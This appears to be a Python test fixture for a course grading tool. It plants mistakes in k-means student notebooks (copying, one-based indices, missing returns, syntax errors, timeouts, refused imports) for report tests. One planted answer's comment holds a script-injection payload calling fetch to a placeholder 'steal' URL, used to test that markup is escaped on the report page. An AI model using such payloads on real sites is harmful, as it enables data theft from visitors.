"""A small class with planted mistakes, for the class report's tests.

Every student's graded code is written here (or taken from
``tests/implementations.py``), and :data:`PLANTED` says which mistake each
answer was written to show where the mistake is about the run (a missing
``return``, a tuple, a syntax error, an endless loop, a refused import): those
counts are known by construction.  Mistakes the checks name (one-based
indices, L1 distance) are found by running the planted function on the
hidden cases in this process and asking the check, never from the report.
"""

import implementations as impl
import nbformat
import numpy as np
from submissions import (
    COMPUTE_ADD_AT,
    COMPUTE_BINCOUNT,
    FIND_BROADCAST,
    FIND_HANGS,
    FIND_MATRIX,
    FIND_ONE_BASED,
    graded_source,
    notebook,
)

from instructor.course import exercises
from instructor.grading.worker import arrange

FIND, COMPUTE = "find_closest_centroids", "compute_centroids"

#: Two loops with several independent lines: the answer that is copied.
BEN_FIND = """
def find_closest_centroids(X, centroids):
    m = X.shape[0]
    K = centroids.shape[0]
    idx = np.zeros(m, dtype=int)
    for i in range(m):
        distances = np.zeros(K)
        for j in range(K):
            diff = X[i] - centroids[j]
            distances[j] = np.sqrt(np.sum(diff ** 2))
        idx[i] = np.argmin(distances)
    return idx
"""
BEN_COMPUTE = """
def compute_centroids(X, idx, K):
    m, n = X.shape
    centroids = np.zeros((K, n))
    counts = np.zeros(K)
    for i in range(m):
        centroids[idx[i]] += X[i]
        counts[idx[i]] += 1
    for k in range(K):
        if counts[k] > 0:
            centroids[k] /= counts[k]
    return centroids
"""
#: Ben's answer renamed, its independent lines reordered, with new comments.
ELI_FIND = """
def find_closest_centroids(X, centroids):
    # number of centroids
    n_c = centroids.shape[0]
    # number of points
    n_pts = X.shape[0]
    labels = np.zeros(n_pts, dtype=int)  # the result
    for p in range(n_pts):
        d = np.zeros(n_c)
        for c in range(n_c):
            # Euclidean distance to centroid c
            delta = X[p] - centroids[c]
            d[c] = np.sqrt(np.sum(delta ** 2))
        labels[p] = np.argmin(d)
    return labels
"""
ELI_COMPUTE = """
def compute_centroids(X, idx, K):
    # how many points fall in each cluster
    sizes = np.zeros(K)
    n_rows, n_feat = X.shape
    sums = np.zeros((K, n_feat))  # running sums
    for r in range(n_rows):
        sizes[idx[r]] += 1
        sums[idx[r]] += X[r]
    # turn the sums into means
    for c in range(K):
        if sizes[c] > 0:
            sums[c] /= sizes[c]
    return sums
"""
GUS_FIND = """
def find_closest_centroids(X, centroids):
    idx = np.zeros(X.shape[0], dtype=int)
    for i in range(X.shape[0]):
        idx[i] = np.argmin(np.sum((centroids - X[i]) ** 2, axis=1)) + 1
    return idx
"""
IVY_FIND = """
def find_closest_centroids(X, centroids):
    out = []
    for x in X:
        out.append(np.argmin(np.abs(centroids - x).sum(axis=1)))
    return np.array(out)
"""
JON_FIND = """
def find_closest_centroids(X, centroids):
    d = ((X[:, None, :] - centroids[None, :, :]) ** 2).sum(axis=2)
    return np.argmin(d, axis=1), d.min(axis=1)
"""
KIM_FIND = """
def find_closest_centroids(X, centroids):
    d = np.linalg.norm(X[:, None] - centroids[None], axis=-1)
    return {"idx": d.argmin(axis=1)}
"""
GUS_COMPUTE = graded_source(impl.centroids_missing_return, COMPUTE)
HAL_COMPUTE = """
def compute_centroids(X, idx, K):
    result = np.zeros((K, X.shape[1]))
    for k in range(K):
        if np.any(idx == k):
            result[k] = X[idx == k].mean(axis=0)
    result
"""
IVY_COMPUTE = """
def compute_centroids(X, idx, K):
    sums = np.zeros((K, X.shape[1]))
    np.add.at(sums, idx, X)
    counts = np.maximum(np.bincount(idx, minlength=K), 1)
    centroids = sums / counts[:, None]
"""
#: A syntax error, with markup in a comment that must stay text on the page.
JON_COMPUTE = """
def compute_centroids(X, idx, K)
    # </pre><script>fetch("https://example.com/steal")</script><img src=x>
    return np.zeros((K, X.shape[1]))
"""
KIM_COMPUTE = """
def compute_centroids(X, idx, K):
    means = [X[idx == k].mean(axis=0) for k in range(K)
    return np.array(means)
"""
#: SciPy is not among what a graded cell may import: refused.
LEA_COMPUTE = """
from scipy import ndimage

def compute_centroids(X, idx, K):
    labels = np.arange(K)
    return np.column_stack(
        [ndimage.mean(X[:, j], idx, labels) for j in range(X.shape[1])]
    )
"""

#: student -> {exercise: graded code}; the optional exercise is left as released.
CLASS = {
    "ana": {FIND: FIND_BROADCAST, COMPUTE: COMPUTE_BINCOUNT},
    "ben": {FIND: BEN_FIND, COMPUTE: BEN_COMPUTE},
    "cho": {FIND: FIND_MATRIX, COMPUTE: COMPUTE_ADD_AT},
    "eli": {FIND: ELI_FIND, COMPUTE: ELI_COMPUTE},
    "fay": {
        FIND: FIND_ONE_BASED,
        COMPUTE: graded_source(impl.centroids_pure_python, COMPUTE),
    },
    "gus": {FIND: GUS_FIND, COMPUTE: GUS_COMPUTE},
    "hal": {FIND: graded_source(impl.closest_l1, FIND), COMPUTE: HAL_COMPUTE},
    "ivy": {FIND: IVY_FIND, COMPUTE: IVY_COMPUTE},
    "jon": {FIND: JON_FIND, COMPUTE: JON_COMPUTE},
    "kim": {FIND: KIM_FIND, COMPUTE: KIM_COMPUTE},
    "lea": {FIND: FIND_HANGS, COMPUTE: LEA_COMPUTE},
    "nia": {
        FIND: graded_source(impl.closest_running_minimum, FIND),
        COMPUTE: graded_source(impl.centroids_one_hot, COMPUTE),
    },
}
#: The copy: (original, copy).
COPY = ("ben", "eli")
#: Mistakes about the run (and a missing return, named by labkit/mistakes.py),
#: as planted: student -> {exercise: identifier}.
PLANTED = {
    "gus": {COMPUTE: "common.returns_none"},
    "hal": {COMPUTE: "common.returns_none"},
    "ivy": {COMPUTE: "common.returns_none"},
    "jon": {FIND: "common.returns_tuple", COMPUTE: "run.syntax_error"},
    "kim": {FIND: "run.wrong_type", COMPUTE: "run.syntax_error"},
    "lea": {FIND: "run.timeout", COMPUTE: "run.not_allowed"},
}
#: Answers written to be wrong in a way the checks judge (one-based, L1).
CHECKED_WRONG = {"fay": FIND, "gus": FIND, "hal": FIND, "ivy": FIND}


def write_class(folder):
    """Write the class's notebooks into ``folder``; return it."""
    folder.mkdir(parents=True, exist_ok=True)
    for student, codes in CLASS.items():
        nbformat.write(
            notebook(find=codes[FIND], compute=codes[COMPUTE]),
            folder / f"{student}.ipynb",
        )
    return folder


def _run_in_process(function, hidden):
    args = [
        arrange(arg.copy(), hidden.layout(j)) if isinstance(arg, np.ndarray) else arg
        for j, arg in enumerate(hidden.case.args)
    ]
    return function(*args)


def checked_mistakes(exercise, source):
    """The named mistakes the check finds in ``source`` on the hidden cases."""
    namespace = {"np": np}
    exec(source, namespace)  # noqa: S102 - the test's own planted code
    function, check = namespace[exercise], exercises.checker(exercise)
    found = set()
    for hidden in exercises.hidden_cases(exercise):
        try:
            (hidden.check or check)(hidden.case, _run_in_process(function, hidden))
        except AssertionError as failure:
            mistake = getattr(failure, "mistake", None)
            if mistake:
                found.add(mistake)
    return found


def expected_mistakes():
    """``{(exercise, mistake): students}`` the class was planted with."""
    expected = {}
    for student, planted in PLANTED.items():
        for exercise, mistake in planted.items():
            expected.setdefault((exercise, mistake), set()).add(student)
    for student, exercise in CHECKED_WRONG.items():
        for mistake in checked_mistakes(exercise, CLASS[student][exercise]):
            expected.setdefault((exercise, mistake), set()).add(student)
    return expected
